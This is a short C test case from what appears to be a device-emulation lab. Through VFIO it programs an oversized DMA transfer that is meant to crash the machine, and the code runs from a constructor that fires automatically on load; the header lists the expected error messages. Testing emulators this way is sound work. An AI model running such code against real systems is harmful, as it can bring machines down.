/* lab: 8
 * tries: take the machine down with a DMA that the device cannot do
 * only: dma_moves_both_ways
 * says: your DMA of 5000 bytes at 0x40000 runs past the device's buffer
 * says: vfio_open() returned -38
 * (From version 10 on, QEMU leaves such a transfer out and goes on: what is seen then is the starter.)
 * end of description */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>

static int group_open(void)
{
    char path[64];

    for (int n = 0, fd; n < 100; n++) {
        snprintf(path, sizeof path, "/dev/vfio/%d", n);
        if ((fd = open(path, O_RDWR)) >= 0)
            return fd;
    }
    return -1;
}

__attribute__((constructor)) static void past(void)
{
    int container = open("/dev/vfio/vfio", O_RDWR), group = group_open(), device;
    volatile uint32_t *bar;
    uint16_t command = 6;

    ioctl(group, VFIO_GROUP_SET_CONTAINER, &container);
    ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1v2_IOMMU);
    device = ioctl(group, VFIO_GROUP_GET_DEVICE_FD, "0000:00:05.0");
    bar = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, device, 0);
    if (bar == MAP_FAILED || pwrite(device, &command, 2, (7ll << 40) + 4) != 2)
        return;
    bar[0x88 / 4] = 0x40000;
    bar[0x90 / 4] = 5000;
    bar[0x98 / 4] = 1;
    sleep(2);
}
